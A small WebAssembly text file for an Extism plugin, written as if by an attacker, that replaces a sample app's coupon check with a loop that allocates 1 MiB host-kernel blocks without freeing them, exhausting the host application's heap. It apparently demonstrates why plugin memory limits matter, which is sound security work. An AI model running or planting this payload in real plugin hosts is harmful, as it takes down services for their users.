;; coupon-bomb.wasm - an Extism plugin written by an attacker, in place of the sample's coupon rules: check_coupon
;; asks Extism's kernel for 1 MiB blocks without ever freeing one, under a careless max-memory, until the host says
;; no. The blocks live on the application's heap, not in the plugin's memory.
(module
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (memory (export "memory") 1)
  (func (export "check_coupon") (result i32)
    (loop $more
      (drop (call $alloc (i64.const 1048576)))
      (br $more))
    (i32.const 0)))
